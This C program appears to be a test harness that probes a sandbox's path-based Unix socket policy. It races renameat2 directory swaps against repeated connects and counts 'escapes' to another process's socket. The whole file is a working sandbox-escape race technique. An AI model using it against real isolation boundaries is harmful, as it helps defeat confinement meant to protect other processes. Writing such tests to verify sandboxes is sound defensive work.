/*
 * attack_policy_swap DIRECTORY ATTEMPTS: connects to DIRECTORY/a/s, where it listens itself, while
 * a thread exchanges DIRECTORY/a for DIRECTORY/b: a link to a directory in which the socket `s` is
 * another process's. A connection to that one is an escape.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

enum { EXCHANGE = 2, WAITING = 4096 };

static char a[sizeof((struct sockaddr_un *)0)->sun_path], b[sizeof a];
static _Atomic int stop;

static void *swap(void *unused)
{
    while (!stop)
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, EXCHANGE);
    return unused;
}

int main(int argc, char **argv)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    long attempts = argc == 3 ? atol(argv[2]) : 0;
    long escapes = 0, allowed = 0, refused = 0, other = 0;
    struct sockaddr *at = (struct sockaddr *)&address;
    int listening = socket(AF_UNIX, SOCK_STREAM, 0);
    char link[1];
    pthread_t thread;

    if (attempts <= 0)
        return 2;
    snprintf(a, sizeof a, "%s/a", argv[1]);
    snprintf(b, sizeof b, "%s/b", argv[1]);
    snprintf(address.sun_path, sizeof address.sun_path, "%s/a/s", argv[1]);
    if (bind(listening, at, sizeof address) || listen(listening, WAITING)) {
        perror(address.sun_path);
        return 1;
    }
    if (pthread_create(&thread, NULL, swap, NULL))
        return 1;
    for (long i = 0; i < attempts; i++) {
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        struct ucred peer = {0};
        socklen_t size = sizeof peer;

        if (connect(s, at, sizeof address) == 0) {
            getsockopt(s, SOL_SOCKET, SO_PEERCRED, &peer, &size);
            if (peer.pid == getpid()) {
                allowed++;
                close(accept(listening, NULL, NULL));
            } else {
                escapes++;
            }
        } else if (errno == EACCES) {
            refused++;
        } else {
            other++;
        }
        close(s);
    }
    stop = 1;
    pthread_join(thread, NULL);
    /* As it was, for another run. */
    if (readlink(a, link, sizeof link) > 0)
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, EXCHANGE);
    unlink(address.sun_path);
    printf("attempts=%ld escapes=%ld allowed=%ld refused=%ld other=%ld\n", attempts, escapes,
           allowed, refused, other);
    return 0;
}
